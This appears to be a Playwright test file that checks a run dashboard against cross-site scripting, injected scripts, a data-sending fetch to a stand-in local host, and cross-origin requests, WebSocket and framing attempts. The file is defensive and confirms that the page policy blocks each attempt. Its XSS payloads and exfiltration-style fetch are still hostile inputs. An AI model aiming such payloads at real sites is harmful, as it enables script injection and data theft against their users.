"""Attacks on the dashboard with a real browser: from names in a run, and from pages of others."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Frame, Page

from distlab.events import Event
from distlab.page import report
from distlab.runs.run_file import RunFile
from distlab_dashboard import DashboardServer, exports
from tests.synthetic import whole_run
from tests.ui.conftest import Pages, Served, ended, serving
from tests.ui.test_people import PAGES
from tests.wicked import ATTACK, wicked_run

NAMES = ("<img src=x onerror='window.attacked = true'>", "<b>second")
WATCH = """
window.violations = []
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`)
})
"""
FOREIGN_MARKUP = """
() => {
  const found = [], places = [document]
  for (const place of places) {
    for (const element of place.querySelectorAll("*")) {
      if (element.shadowRoot) places.push(element.shadowRoot)
      const script = element.localName === "script" && element.textContent.startsWith("window.att")
      if (script || element.matches("img[src=x], [onerror], [onload], [href^='javascript:']")) {
        found.push(element.outerHTML.slice(0, 200))
      }
    }
  }
  return found
}
"""


def hover(page: Page) -> None:
    """Moves the mouse over every chart that is shown, so that its tooltips open."""
    for canvas in page.locator("section:not([hidden]) canvas").all():
        box = canvas.bounding_box()
        if box is None or box["width"] < 40:
            continue
        for place in range(1, 8):
            across, down = box["width"] * place / 8, box["height"] * (0.2 + 0.08 * place)
            page.mouse.move(box["x"] + across, box["y"] + down)


def check_safe(page: Page) -> None:
    """Fails if a text of the run became markup, or the page broke its policy."""
    assert page.evaluate(FOREIGN_MARKUP) == []
    assert page.evaluate("window.attacked") is None
    assert page.evaluate("window.violations") == []


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DashboardServer]:
    """A folder with two runs whose names are attacks, as far as files can have such names."""
    root = tmp_path_factory.mktemp("wicked")
    for name in NAMES:
        file = RunFile(root / name, name)
        file.write([one for one in wicked_run() if isinstance(one, Event)])
        file.close()
    with serving(root) as made:
        yield made


@pytest.mark.timeout(600)
def test_no_text_of_a_run_is_markup_on_any_page(library: DashboardServer, new_page: Pages) -> None:
    watched = new_page(scheme="dark")
    page = watched.page
    page.add_init_script(WATCH)
    watched.open(library.url)
    page.wait_for_selector(".runs tbody tr:nth-child(2)")
    assert page.evaluate(FOREIGN_MARKUP) == []
    for tick in page.locator(".runs input").all():
        tick.check()
    page.click(".compare-runs")
    page.wait_for_selector("html[data-shown=compare]")
    for name in PAGES:
        watched.tab(name)
        page.wait_for_function("() => Bokeh.documents[0].is_idle")
        hover(page)
        if name == "events":
            page.wait_for_selector(".events tbody button")
            page.click(".events tbody button")
            page.wait_for_selector(".whole")
    watched.wait_for_text("steps", "40 of 40")
    assert "onerror" in page.locator("[data-text=run]").first.inner_text()
    check_safe(page)
    assert watched.warnings == []


def test_no_text_is_markup_in_an_exported_page(tmp_path: Path, new_page: Pages) -> None:
    path = tmp_path / "run.html"
    report.write(ended(wicked_run()), ATTACK, path)
    watched = new_page()
    page = watched.page
    page.add_init_script(WATCH)
    page.goto(path.as_uri())
    page.wait_for_selector("html[data-ready=true]")
    watched.foreign.clear()  # the file itself
    for name in PAGES:
        if name not in {"runs", "compare", "events"}:
            page.click(f'nav a[data-page="{name}"]')
            page.wait_for_selector(f'section[data-page="{name}"]:not([hidden])')
    check_safe(page)


def test_the_policy_stops_what_would_get_through(
    library: DashboardServer, browser: Browser
) -> None:
    """A hole in the page would have to get past the browser as well."""
    page = browser.new_page()
    page.add_init_script(WATCH)
    page.goto(library.url)
    page.wait_for_selector("html[data-ready=true]")
    page.evaluate(
        """() => {
          const script = document.createElement("script")
          script.textContent = "window.attacked = true"
          document.body.append(script)
          const image = document.createElement("div")
          image.innerHTML = "<img src=x onerror='window.attacked = true'>"
          document.body.append(image)
          const elsewhere = document.createElement("script")
          elsewhere.src = "http://127.0.0.1:1/x.js"
          document.body.append(elsewhere)
          const base = document.createElement("base")
          base.href = "http://127.0.0.1:1/"
          document.head.append(base)
        }"""
    )
    page.wait_for_function("window.violations.length >= 4")
    assert page.evaluate("window.attacked") is None
    sent = page.evaluate(
        "fetch('http://127.0.0.1:1/?secret', {mode: 'no-cors'}).then(() => 'sent', () => 'kept')"
    )
    assert sent == "kept"
    directives = {one.split(":")[0] for one in page.evaluate("window.violations")}
    assert {"script-src-elem", "script-src-attr", "base-uri", "connect-src"} <= directives
    attack = "</pre><script>window.attacked = true</script>"
    page.goto(f"{library.url}?run={quote(attack)}")
    assert attack in page.get_by_text("attacked", exact=False).first.inner_text()
    assert page.evaluate("window.attacked") is None
    page.close()


class Elsewhere:
    """A web server of another site, on a port of its own."""

    def __init__(self, folder: Path) -> None:
        quiet = type("Quiet", (SimpleHTTPRequestHandler,), {"log_message": lambda *_: None})
        handler = partial(quiet, directory=str(folder))
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self._folder = folder
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def page(self, html: str) -> str:
        """Serves a page, and returns its address."""
        (self._folder / "page.html").write_text(f"<!doctype html>{html}")
        return f"http://127.0.0.1:{self.port}/page.html"


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Elsewhere]:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    made = Elsewhere(folder)
    yield made
    made.server.shutdown()
    made.server.server_close()


TRY_ALL = """
async (base) => {
  const said = []
  const get = async (path, options) => {
    try {
      const answer = await fetch(base + path, options)
      const status = answer.type === "opaque" ? "opaque" : answer.status
      said.push(`${path} ${status} ${await answer.text()}`)
    } catch { said.push(`${path} failed`) }
  }
  for (const path of ["", "health", "export/trace.json", "export/run.html"]) {
    await get(path, {credentials: "include"})
    await get(path, {mode: "no-cors", credentials: "include"})
  }
  const socket = await new Promise((done) => {
    const one = new WebSocket(base.replace("http", "ws") + "ws", ["bokeh", "e30"])
    one.onopen = () => done("open")
    one.onerror = () => done("refused")
  })
  return [...said, socket]
}
"""


def test_a_page_of_another_site_reaches_nothing(
    served: Served, elsewhere: Elsewhere, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[object] = []
    monkeypatch.setattr(exports, "_write", lambda *given: made.append(given))
    url = served(ended(whole_run(3))).url
    page = browser.new_page()
    page.goto(
        elsewhere.page(
            f"<img src='{url}export/trace.json'><img src='{url}'>"
            f"<script src='{url}health'></script>"
            f"<link rel=stylesheet href='{url}'>"
            f"<form method=post action='{url}export/run.html'><button>send</button></form>"
            f"<a href='{url}export/trace.json'>file</a> <a href='{url}'>page</a>"
        )
    )
    *said, socket = page.evaluate(TRY_ALL, url)
    assert socket == "refused"
    assert {one.rpartition(" ")[0].partition(" ")[2] or one for one in said} <= {"opaque"} | {
        f"{path} failed" for path in ("", "health", "export/trace.json", "export/run.html")
    }
    page.click("text=file")
    page.get_by_text("Not from there").wait_for()
    page.go_back()
    page.click("text=send")
    page.wait_for_url(f"{url}export/run.html")
    assert made == []
    page.go_back()
    page.click("text=page")  # a link to the page is what people send each other
    page.wait_for_selector("html[data-ready=true]")
    page.close()


def frame_of(page: Page) -> Frame:
    # Asking the browser: `page.frames` learns nothing while this thread only waits.
    element = page.wait_for_selector("iframe", state="attached")
    frame = None if element is None else element.content_frame()
    assert frame is not None
    return frame


def test_only_own_and_named_origins_show_it_in_a_frame(
    served: Served, elsewhere: Elsewhere, browser: Browser
) -> None:
    """As Jupyter does, behind whose proxy page and dashboard have one origin."""
    frame = "<iframe src='{}' width=900 height=700></iframe>"
    source = ended(whole_run(3))
    named = served(source, origins=(f"127.0.0.1:{elsewhere.port}",))
    page, url = browser.new_page(), served(source).url
    with page.expect_console_message(lambda message: "frame" in message.text):  # the refusal
        page.goto(elsewhere.page(frame.format(url)))
    assert frame_of(page).locator("main").count() == 0
    body = f"<!doctype html>{frame.format(url)}"
    page.route(f"{url}lab", lambda route: route.fulfill(body=body, content_type="text/html"))
    for address in (f"{url}lab", elsewhere.page(frame.format(named.url))):
        page.goto(address)
        frame_of(page).wait_for_selector("html[data-ready=true]")
    page.close()
